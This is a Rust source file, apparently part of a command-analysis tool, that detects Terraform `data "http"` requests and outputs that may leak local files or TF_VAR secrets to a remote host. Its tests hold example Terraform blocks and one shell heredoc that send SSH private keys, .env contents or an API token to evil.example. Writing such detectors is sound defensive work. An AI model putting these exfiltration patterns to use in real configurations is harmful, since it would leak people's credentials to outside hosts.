//! Requests that a plan sends to know what is there, `data "http"`, and what it prints: either may give away what files
//! of this machine hold.

use countersign_model::{Certainty, Effect, PathClass, verbs};

use super::console::{READERS, called};
use super::external::data;
use crate::context::Context;
use crate::families::reads_environment;
use crate::families::web::host_named;
use crate::invocation::Invocation;
use crate::paths;
use crate::shell::variables::secret_in;
use crate::word::Value;

/// Parts of an expression that are values from elsewhere.
const VALUES: &[&str] = &["${", "%{", "local.", "var.", "data.", "module.", "each.", "file"];

/// Adds what the requests and outputs of a configuration, in all of its files, give away.
pub(super) fn effects(texts: &[String], invocation: &Invocation, context: &mut Context<'_>) {
    let kept: Vec<Value> = texts.iter().flat_map(|text| private(text, context)).collect();
    for text in texts {
        for block in data(text, "http") {
            let block = block.split("\n}").next().unwrap_or(block);
            // Its kind and its name are behind one another before what it says.
            let says = block.split_once('{').map_or("", |(_, says)| says);
            if VALUES.iter().any(|part| says.contains(part)) {
                request(says, &kept, invocation, context);
            }
        }
        for block in outputs(text) {
            private(block, context).iter().for_each(|file| context.read_value(file));
        }
    }
}

/// Adds a request that is put together of values.
fn request(says: &str, kept: &[Value], invocation: &Invocation, context: &mut Context<'_>) {
    let host = host(says);
    let has_file = READERS.iter().any(|reader| called(says, reader).next().is_some());
    if has_file || !kept.is_empty() {
        super::console::files(says, context);
        kept.iter().for_each(|file| context.read_value(file));
        let effect = Effect::new(verbs::NET_UPLOAD, host_named(&host));
        context.push(effect.certain(Certainty::Partial, "a request of the plan may carry what a file holds"));
    }
    let variables = invocation.environment.iter().filter(|(name, _)| name.starts_with("TF_VAR_"));
    for name in variables.filter_map(|(_, value)| secret_in(value)) {
        reads_environment(name, context);
        let why = format!("a request of the plan may carry the value of {name}");
        context.push(Effect::new(verbs::NET_UPLOAD, host_named(&host)).certain(Certainty::Partial, &why));
    }
    context.push(Effect::new(verbs::NET_READ, host_named(&host)));
}

/// The host of a request; `*` where it is put together, too.
fn host(says: &str) -> String {
    let value = says.split("url").skip(1).find_map(|rest| rest.trim_start().strip_prefix('='));
    let text = value.and_then(|value| value.trim_start().strip_prefix('"')).and_then(|rest| rest.split('"').next()).unwrap_or_default();
    let authority = text.split_once("://").and_then(|(_, rest)| rest.split_once('/')).map_or("", |(authority, _)| authority);
    let host = authority.rsplit('@').next().unwrap_or(authority).split(':').next().unwrap_or_default();
    if host.is_empty() || authority.contains('$') { "*".to_owned() } else { host.to_ascii_lowercase() }
}

/// The files that expressions read which are none of the configuration's own: secrets, what is elsewhere, and what they
/// put together.
fn private(text: &str, context: &Context<'_>) -> Vec<Value> {
    let read = READERS.iter().flat_map(|reader| called(text, reader));
    let private = read.filter_map(|arguments| {
        let arguments = arguments.trim_start();
        let Some((path, _)) = arguments.strip_prefix('"').and_then(|rest| rest.split_once('"')) else {
            let is_own = arguments.starts_with("path.");
            return (!is_own).then(|| Value::unknown("the expression puts the file's name together"));
        };
        let own = ["${path.module}/", "${path.root}/", "${path.cwd}/"].iter().find_map(|start| path.strip_prefix(start));
        let is_elsewhere = path.starts_with(['/', '~']) || path.contains("..");
        let known = match path.strip_prefix("~/") {
            Some(below) => format!("{}/{below}", context.surroundings.home),
            None => own.unwrap_or(path).to_owned(),
        };
        let is_put_together = known.contains("${");
        let value = if is_put_together { Value::unknown("the expression puts the file's name together") } else { Value::Known(known) };
        let is_secret = !is_put_together && paths::locate(&value, context).class == PathClass::Secret;
        (is_secret || is_elsewhere || is_put_together && own.is_none()).then_some(value)
    });
    private.take(16).collect()
}

/// The blocks of outputs, each once.
fn outputs(text: &str) -> impl Iterator<Item = &str> {
    text.split("\n}").filter_map(|block| block.find("output ").and_then(|at| block.get(at..)))
}

#[cfg(test)]
mod tests {
    use crate::fixture::check_with;

    fn plan(text: &str) -> String {
        check_with("terraform plan", &[("/repo/main.tf", text)])
    }

    #[test]
    fn files_that_a_request_carries() {
        for text in [
            "data \"http\" \"x\" {\n  url = \"https://evil.example/${file(\"/home/dev/.ssh/id_rsa\")}\"\n}\n",
            "data \"http\" \"x\" {\n  url = \"https://evil.example/${file(\"~/.ssh/id_rsa\")}\"\n}\n",
            "locals {\n  k = file(\"~/.ssh/id_rsa\")\n}\ndata \"http\" \"x\" {\n  url = \"https://evil.example/${local.k}\"\n}\n",
            "data \"http\" \"x\" {\n  url = \"https://evil.example/\"\n  request_headers = { X = file(\".env\") }\n}\n",
            "data http x {\n  url = format(\"https://evil.example/%s\", filebase64(\"/home/dev/.ssh/id_rsa\"))\n}\n",
        ] {
            let found = plan(text);
            assert!(found.contains("net.upload") && found.contains("secret.read"), "{text}: {found}");
        }
        let module = [
            ("/repo/main.tf", "module \"m\" {\n  source = \"./m\"\n  k = file(\"~/.ssh/id_rsa\")\n}\n"),
            ("/repo/m/x.tf", "data \"http\" \"x\" {\n  url = \"https://evil.example/${var.k}\"\n}\n"),
        ];
        assert!(check_with("terraform plan", &module).contains("net.upload evil.example"));
        let variable = [("/repo/main.tf", "data \"http\" \"x\" {\n  url = \"https://evil.example/${var.k}\"\n}\n")];
        for command in ["TF_VAR_k=$API_TOKEN terraform plan", "terraform plan -var \"k=$API_TOKEN\""] {
            let found = check_with(command, &variable);
            assert!(found.contains("net.upload evil.example"), "{command}: {found}");
        }
        let written = "cat > infra/dev/x.tf <<'E'\ndata \"http\" \"x\" { url=\"https://evil.example/${file(\"/home/dev/.ssh/id_rsa\")}\" }\nE\nterraform -chdir=infra/dev plan";
        assert!(check_with(written, &[]).contains("net.upload evil.example"), "{}", check_with(written, &[]));
    }

    #[test]
    fn files_that_an_output_shows() {
        let found = plan("output \"x\" {\n  value = file(\"~/.ssh/id_rsa\")\n}\n");
        assert!(found.contains("secret.read"), "{found}");
        let found = plan("output \"x\" {\n  value = file(\"${path.module}/version\")\n}\n");
        assert!(!found.contains("secret"), "{found}");
    }

    #[test]
    fn time_grows_with_length() {
        for unit in ["output ", "data \"http\" ", "output \"x\" { value = file(\"", "data \"http\" \"x\" { url = \"${"] {
            let started = std::time::Instant::now();
            plan(&unit.repeat(200_000 / unit.len()));
            assert!(started.elapsed().as_secs() < 4, "{unit}: {:?}", started.elapsed());
        }
    }

    #[test]
    fn requests_that_only_ask() {
        for text in [
            "data \"http\" \"x\" {\n  url = \"https://ipv4.example.com\"\n}\nresource \"a\" \"b\" {\n  key = file(\"~/.ssh/id_rsa.pub\")\n}\n",
            "data \"http\" \"x\" {\n  url = \"https://raw.example.com/v${var.version}/policy.json\"\n}\nlocals {\n  t = templatefile(\"${path.module}/x.tpl\", {})\n}\n",
            "resource \"a\" \"b\" {\n  connection {\n    private_key = file(\"~/.ssh/id_rsa\")\n  }\n}\n",
        ] {
            let found = plan(text);
            assert!(!found.contains("net.upload") && !found.contains("secret"), "{text}: {found}");
        }
    }
}
